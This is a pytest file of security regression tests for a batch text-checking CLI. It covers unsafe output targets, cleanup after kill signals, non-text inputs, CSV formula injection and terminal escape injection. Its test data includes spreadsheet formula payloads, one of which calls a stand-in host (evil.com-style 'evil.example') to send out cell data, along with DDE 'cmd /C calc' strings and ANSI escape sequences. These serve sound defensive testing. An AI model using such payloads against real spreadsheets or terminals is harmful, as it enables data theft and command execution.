"""Attacks on the batch CLI (issue 16, findings 5, 11, 12, 13, 14): what a
hostile input or a careless user did to it, and what it does now.

Each case asserts the outcome: the exit status, the file left intact, no
temporary file left, the error record that names the input, no process
left behind. Signal cases run ``python -m tqcheck`` on a generated input
and signal it once its output has started to grow, so it is mid-run."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import stat
import subprocess
import sys
import threading
import time

import psutil
import pytest

from tqcheck.batch.output import AtomicOutput, remove_stale
from tqcheck.cli import main
from tests.conftest import ROOT

SENTENCE = "The delegation from the provincial government visited the new port facilities on Tuesday morning."
PUNCT = ["--disable", "*", "--enable", "punctuation"]


def jsonl_input(path, n: int) -> str:
    with open(path, "w", encoding="utf-8") as fh:
        for i in range(n):
            fh.write(json.dumps({"id": str(i), "target": SENTENCE}) + "\n")
    return str(path)


def start(*args: str, **kwargs) -> subprocess.Popen:
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    return subprocess.Popen([sys.executable, "-m", "tqcheck", "check", "--no-config", *args],
                            stdout=kwargs.pop("stdout", subprocess.DEVNULL), stderr=subprocess.PIPE, text=True,
                            cwd=ROOT, env=env, start_new_session=True, **kwargs)


def temp_output_size(pid: int, folder) -> int:
    """Bytes written so far to the run's (unnamed) temporary output in ``folder``."""
    prefix = str(folder) + "/"
    try:
        for fd in os.listdir(f"/proc/{pid}/fd"):
            try:
                link = os.readlink(f"/proc/{pid}/fd/{fd}")
                if link.startswith(prefix) and ("/#" in link or ".tqcheck-" in link):
                    return os.stat(f"/proc/{pid}/fd/{fd}").st_size
            except OSError:
                continue
    except OSError:
        pass
    return 0


def wait_mid_run(proc: subprocess.Popen, folder, min_bytes: int = 20_000, timeout: float = 120) -> None:
    deadline = time.monotonic() + timeout
    while temp_output_size(proc.pid, folder) < min_bytes:
        assert proc.poll() is None, proc.communicate()[1]
        assert time.monotonic() < deadline, "the run never got going"
        time.sleep(0.05)


def descendants(pid: int) -> list[psutil.Process]:
    return psutil.Process(pid).children(recursive=True)


def survivors(procs: list[psutil.Process], timeout: float = 15) -> list[int]:
    """The processes still alive (zombies count as gone) after ``timeout``."""
    deadline = time.monotonic() + timeout
    while True:
        alive = []
        for p in procs:
            try:
                if p.is_running() and p.status() != psutil.STATUS_ZOMBIE:
                    alive.append(p.pid)
            except psutil.NoSuchProcess:
                pass
        if not alive or time.monotonic() > deadline:
            return alive
        time.sleep(0.1)


@pytest.fixture
def reap():
    """Kill (by pid) anything a failed signal test left running."""
    procs: list[psutil.Process] = []
    yield procs
    for p in procs:
        try:
            p.kill()
        except psutil.NoSuchProcess:
            pass


# --- finding 5: -o writes through what is not a regular file ---------------

def test_output_to_a_character_device_writes_through_it(tmp_path, capsys):
    device = tmp_path / "null"
    try:
        os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, 3))  # a /dev/null of our own
    except PermissionError:
        pytest.skip("cannot make a device node here")
    doc = tmp_path / "doc.txt"
    doc.write_text(SENTENCE, encoding="utf-8")
    assert main(["check", "--no-config", *PUNCT, "-o", str(device), str(doc)]) == 0
    assert stat.S_ISCHR(os.lstat(device).st_mode)  # still the device, not a regular file
    assert sorted(p.name for p in tmp_path.iterdir()) == ["doc.txt", "null"]


def test_output_to_a_fifo_writes_into_it(tmp_path, capsys):
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    got: list[bytes] = []
    reader = threading.Thread(target=lambda: got.append(open(fifo, "rb").read()), daemon=True)
    reader.start()
    doc = tmp_path / "doc.txt"
    doc.write_text(SENTENCE, encoding="utf-8")
    assert main(["check", "--no-config", *PUNCT, "--format", "jsonl", "-o", str(fifo), str(doc)]) == 0
    reader.join(timeout=30)
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
    lines = got[0].decode().splitlines()
    assert json.loads(lines[0])["type"] == "checked" and json.loads(lines[-1])["type"] == "summary"


def test_output_to_a_link_to_own_stdout_goes_to_stdout(tmp_path):
    link = tmp_path / "out"
    os.symlink("/proc/self/fd/1", link)
    doc = tmp_path / "doc.txt"
    doc.write_text(SENTENCE, encoding="utf-8")
    proc = start(*PUNCT, "--format", "jsonl", "-o", str(link), str(doc), stdout=subprocess.PIPE)
    out, err = proc.communicate(timeout=120)
    assert proc.returncode == 0, err
    assert os.readlink(link) == "/proc/self/fd/1"  # the link is still a link
    assert json.loads(out.splitlines()[-1])["type"] == "summary"


def test_output_through_a_link_to_a_file_replaces_the_file_and_keeps_the_link(tmp_path, capsys):
    real = tmp_path / "real.jsonl"
    real.write_text("old\n", encoding="utf-8")
    os.chmod(real, 0o640)
    link = tmp_path / "link.jsonl"
    os.symlink("real.jsonl", link)
    doc = tmp_path / "doc.txt"
    doc.write_text(SENTENCE, encoding="utf-8")
    assert main(["check", "--no-config", *PUNCT, "--format", "jsonl", "-o", str(link), str(doc)]) == 0
    assert os.readlink(link) == "real.jsonl"
    assert json.loads(real.read_text(encoding="utf-8").splitlines()[-1])["type"] == "summary"
    assert stat.S_IMODE(real.stat().st_mode) == 0o640
    assert sorted(p.name for p in tmp_path.iterdir()) == ["doc.txt", "link.jsonl", "real.jsonl"]


# --- finding 11: SIGTERM and kill -9 during -o -------------------------------

def test_sigterm_during_output_stops_like_ctrl_c_and_leaves_nothing(tmp_path, reap):
    out = tmp_path / "report.jsonl"
    out.write_text("old report\n", encoding="utf-8")
    proc = start("--format", "jsonl", "--jobs", "2", "-o", str(out), jsonl_input(tmp_path / "big.jsonl", 8000))
    wait_mid_run(proc, tmp_path)
    kids = descendants(proc.pid)
    reap.extend([psutil.Process(proc.pid), *kids])
    assert kids  # workers were running
    os.kill(proc.pid, signal.SIGTERM)  # the main process only, as `kill PID` or `timeout` does
    _, err = proc.communicate(timeout=120)
    assert proc.returncode == 143, err
    assert "stopped by SIGTERM; partial summary" in err and "Interrupted after 1 file" in err
    assert "Traceback" not in err
    assert out.read_text(encoding="utf-8") == "old report\n"  # untouched
    assert sorted(p.name for p in tmp_path.iterdir()) == ["big.jsonl", "report.jsonl"]  # no temporary file
    assert survivors(kids) == []


def test_kill_9_during_output_leaves_the_old_file_no_temp_file_and_no_worker(tmp_path, reap):
    out = tmp_path / "report.jsonl"
    out.write_text("old report\n", encoding="utf-8")
    proc = start("--format", "jsonl", "--jobs", "2", "-o", str(out), jsonl_input(tmp_path / "big.jsonl", 8000))
    wait_mid_run(proc, tmp_path)
    kids = descendants(proc.pid)
    reap.extend([psutil.Process(proc.pid), *kids])
    assert kids
    os.kill(proc.pid, signal.SIGKILL)
    proc.communicate(timeout=60)  # returns once every holder of stderr (the workers too) is gone
    assert proc.returncode == -signal.SIGKILL
    assert out.read_text(encoding="utf-8") == "old report\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["big.jsonl", "report.jsonl"]  # nothing named was left
    assert survivors(kids) == []


def test_named_temp_fallback_is_locked_while_in_use_and_removed_by_the_next_run(tmp_path, monkeypatch):
    """Where O_TMPFILE cannot be used, a killed run's named temporary file
    is removed by the next run; a live run's is left alone."""
    monkeypatch.setattr(AtomicOutput, "_unnamed", lambda self, folder: None)
    target = tmp_path / "r.json"
    target.write_text("old", encoding="utf-8")
    dead = AtomicOutput(str(target))
    dead.file.write("half")
    dead.file.flush()
    assert dead.tmp and os.path.basename(dead.tmp).startswith(".r.json.tqcheck-")
    dead.file.close()  # as if killed: its lock goes, its file stays
    live = AtomicOutput(str(target))  # the next run cleans up the dead one's file...
    assert not os.path.exists(dead.tmp)
    assert remove_stale(str(tmp_path), "r.json") == []  # ...but never a live run's
    assert os.path.exists(live.tmp)
    live.file.write("new")
    live.commit()
    assert target.read_text(encoding="utf-8") == "new"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["r.json"]


def test_unnamed_temp_output_has_no_name_until_commit(tmp_path):
    target = tmp_path / "r.json"
    target.write_text("old", encoding="utf-8")
    out = AtomicOutput(str(target))
    out.file.write("new")
    out.file.flush()
    if out.tmp is not None:
        pytest.skip("O_TMPFILE is not available here")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["r.json"]
    assert target.read_text(encoding="utf-8") == "old"
    out.commit()
    assert target.read_text(encoding="utf-8") == "new"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["r.json"]


def test_output_mode_of_a_new_file_follows_the_umask(tmp_path):
    old = os.umask(0o027)
    try:
        out = AtomicOutput(str(tmp_path / "new.json"))
    finally:
        os.umask(old)
    out.file.write("x")
    out.commit()
    assert stat.S_IMODE((tmp_path / "new.json").stat().st_mode) == 0o640


# --- finding 12: unreadable and non-text inputs are error records -----------

PR_CAPBSET_DROP, CAP_DAC_OVERRIDE, CAP_DAC_READ_SEARCH = 24, 1, 2


def _drop_file_access_override() -> None:
    """In the child, before exec: as root, give up the capabilities that
    let root read a chmod 000 folder, so it is unreadable as for anyone."""
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    for cap in (CAP_DAC_OVERRIDE, CAP_DAC_READ_SEARCH):
        if libc.prctl(PR_CAPBSET_DROP, cap, 0, 0, 0) != 0:
            raise OSError(ctypes.get_errno(), "prctl(PR_CAPBSET_DROP)")


def hostile_folder(folder) -> dict[str, str]:
    """A folder with one good file and one of each bad input; returns the
    bad inputs' paths and what their error must say."""
    folder.mkdir()
    (folder / "good.jsonl").write_text(json.dumps({"id": "1", "target": SENTENCE}) + "\n", encoding="utf-8")
    locked = folder / "locked"
    locked.mkdir()
    (locked / "hidden.txt").write_text(SENTENCE, encoding="utf-8")
    locked.chmod(0)
    os.mkfifo(folder / "pipe.txt")
    (folder / "utf16.txt").write_bytes(SENTENCE.encode("utf-16-be"))
    (folder / "nul.txt").write_bytes(SENTENCE.encode() + b"\x00\x00binary")
    # past the first 4 KB that decide whether a file is text: one bad line
    (folder / "nul.jsonl").write_bytes(b'{"target": "The minister arrived."}\n' * 150 + b"\x00" * 100)
    bad = {
        str(locked): "cannot read this folder: Permission denied",
        str(folder / "pipe.txt"): "not a regular file but a FIFO",
        str(folder / "utf16.txt"): "looks like UTF-16BE without a byte-order mark",
        str(folder / "nul.txt"): f"not text: a NUL byte at byte offset {len(SENTENCE)} (line 1)",
    }
    try:
        os.mknod(folder / "dev.txt", stat.S_IFCHR | 0o666, os.makedev(1, 5))  # /dev/zero: would never end
        bad[str(folder / "dev.txt")] = "not a regular file but a character device"
    except PermissionError:
        pass
    return bad


def test_folder_with_unreadable_fifo_device_utf16_and_nul_inputs_names_each(tmp_path):
    bad = hostile_folder(tmp_path / "in")
    preexec = _drop_file_access_override if os.geteuid() == 0 else None
    try:
        try:
            proc = start("--format", "jsonl", "--jobs", "1", str(tmp_path / "in"), stdout=subprocess.PIPE,
                         preexec_fn=preexec)
        except (OSError, subprocess.SubprocessError) as exc:
            pytest.skip(f"cannot make a folder unreadable to root here: {exc}")
        try:
            out, err = proc.communicate(timeout=120)  # a FIFO opened blindly would hang here
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.communicate()
            raise
    finally:
        (tmp_path / "in" / "locked").chmod(0o755)
    assert proc.returncode == 2, err
    recs = [json.loads(line) for line in out.splitlines()]
    summary = recs.pop()["summary"]
    errors = {r["file"]: r["error"] for r in recs if r["type"] == "error" and r["line"] is None}
    for path, why in bad.items():
        assert why in errors.pop(path), (path, errors)
    assert errors == {}  # one whole-file error each, nothing else
    nul_lines = [r for r in recs if r["file"].endswith("nul.jsonl")]
    assert [r["type"] for r in nul_lines] == ["checked"] * 150 + ["error"]
    assert "NUL byte" in nul_lines[-1]["error"] and nul_lines[-1]["line"] == 151
    assert summary["records"] == len(recs) == 1 + 151 + len(bad)  # records in = records out
    assert summary["errors"] == len(bad) + 1


def test_a_fifo_named_on_the_command_line_is_still_read(tmp_path, capsys):
    fifo = tmp_path / "doc.txt"
    os.mkfifo(fifo)

    def write():
        with open(fifo, "w", encoding="utf-8") as fh:
            fh.write(SENTENCE)

    writer = threading.Thread(target=write, daemon=True)
    writer.start()
    assert main(["check", "--no-config", *PUNCT, "--format", "jsonl", str(fifo)]) == 0
    writer.join(timeout=30)
    assert json.loads(capsys.readouterr().out.splitlines()[0])["type"] == "checked"


@pytest.mark.parametrize("encoding", ["utf-16-be", "utf-16-le", "utf-16", "utf-32-be"])
def test_wide_encodings_are_not_checked_as_text(tmp_path, capsys, encoding):
    for name in ("doc.txt", "doc.jsonl", "doc.tsv"):
        path = tmp_path / name
        text = SENTENCE if name.endswith(".txt") else \
            json.dumps({"target": SENTENCE}) + "\n" if name.endswith(".jsonl") else f"源\t{SENTENCE}\n"
        path.write_bytes(text.encode(encoding))
        assert main(["check", "--no-config", "--format", "jsonl", str(path)]) == 2
        recs = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
        assert [r["type"] for r in recs] == ["error", "summary"], name  # one error for the file, not one per line
        assert recs[0]["file"] == str(path) and "UTF-" in recs[0]["error"]


# --- finding 13: CSV cells cannot run as formulas ----------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
            "\t=1+1", "\r=1+1"]


def test_csv_neutralises_formulas_in_ids_file_names_and_messages_but_not_numbers(tmp_path, capsys):
    path = tmp_path / "=HYPERLINK(1).jsonl"
    rows = [{"id": f, "target": "Hello ,world and welcome to the city."} for f in FORMULAS]
    rows.append({"id": "=1+1"})  # an error record: no target
    path.write_text("".join(json.dumps(r) + "\n" for r in rows) + "=cmd|' /C calc'!A0\n", encoding="utf-8")
    assert main(["check", "--no-config", *PUNCT, "--format", "csv", str(path)]) == 2
    table = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    header, body = table[0], table[1:]
    assert len(body) == len(rows) + 1  # one row per record
    text_columns = [header.index(c) for c in ("file", "segment", "status", "rules", "message")]
    for r in body:
        for i in text_columns:
            assert not r[i].startswith(("=", "+", "-", "@", "\t", "\r")), r[i]
    assert body[0][header.index("file")] == str(path)  # an absolute path: nothing to neutralise
    assert [r[header.index("segment")] for r in body[:len(FORMULAS)]] == ["'" + f for f in FORMULAS]
    score = body[0][header.index("score")]
    # Number cells are never prefixed (scores are 0-100 now, so no cell here is negative).
    assert not score.startswith("'") and 0 <= float(score) <= 100


def test_csv_neutralises_a_file_name_that_starts_like_a_formula(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "@SUM(A1).jsonl").write_text(json.dumps({"target": SENTENCE}) + "\n", encoding="utf-8")
    assert main(["check", "--no-config", *PUNCT, "--format", "csv", "@SUM(A1).jsonl"]) == 0
    table = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert table[1][0] == "'@SUM(A1).jsonl"


# --- finding 14: text output shows control characters, never sends them -----

ESCAPES = "\x1b[2J\x1b]0;owned\x07\x9b31m"


def _controls(s: str) -> list[str]:
    return [c for c in s if (ord(c) < 0x20 and c != "\n") or 0x7f <= ord(c) <= 0x9f]


def test_text_output_escapes_control_characters_from_text_ids_and_names(tmp_path, capsys):
    path = tmp_path / "evil\x1b[31m.jsonl"
    target = f"{ESCAPES}Hello ,world and welcome to the city."
    path.write_text(json.dumps({"id": f"seg{ESCAPES}", "target": target}) + "\n" + "not json\x1b[2J\n",
                    encoding="utf-8")
    assert main(["check", "--no-config", *PUNCT, "--format", "jsonl", str(path)]) == 2
    issues = json.loads(capsys.readouterr().out.splitlines()[0])["report"]["issues"]
    issue = next(i for i in issues if i["kind"] == "error")  # the text lists errors first
    assert main(["check", "--no-config", *PUNCT, str(path)]) == 2
    captured = capsys.readouterr()
    assert _controls(captured.out) == [] and _controls(captured.err) == []
    assert "evil\\x1b[31m.jsonl" in captured.out and "seg\\x1b[2J\\x1b]0;owned\\x07\\x9b31m" in captured.out
    assert "evil\\x1b[31m.jsonl:2: not valid JSON" in captured.err  # the error notice on stderr too
    lines = captured.out.splitlines()
    excerpt = next(line for line in lines if line.startswith("      | ") and "Hello" in line)[8:]
    marks = lines[lines.index("      | " + excerpt) + 1][8:]
    at = marks.index("^")
    span = target[issue["start"]:issue["end"]]
    assert excerpt.startswith("\\x1b[2J\\x1b]0;owned\\x07\\x9b31mHello")
    assert excerpt[at:at + len(marks) - at] == span  # the carets stay under the span


def test_text_output_of_a_document_escapes_its_name_message_and_excerpt(tmp_path, capsys):
    doc = tmp_path / "doc\x1b]0;x\x07.txt"
    doc.write_text(f"He said, \"Hello\x1b[8m and welcome to the city.", encoding="utf-8")
    main(["check", "--no-config", *PUNCT, str(doc)])
    out = capsys.readouterr().out
    assert _controls(out) == []
    assert "doc\\x1b]0;x\\x07.txt:1:10  major  punctuation.quotes.unbalanced" in out
    assert 'He said, "Hello\\x1b[8m and welcome' in out


def test_csv_cell_leaves_numbers_alone_and_prefixes_formula_text():
    from tqcheck.render.csv import cell

    assert cell(-2.5) == -2.5 and cell(0) == 0
    assert cell("-2+3") == "'-2+3" and cell("=1") == "'=1" and cell("plain") == "plain"
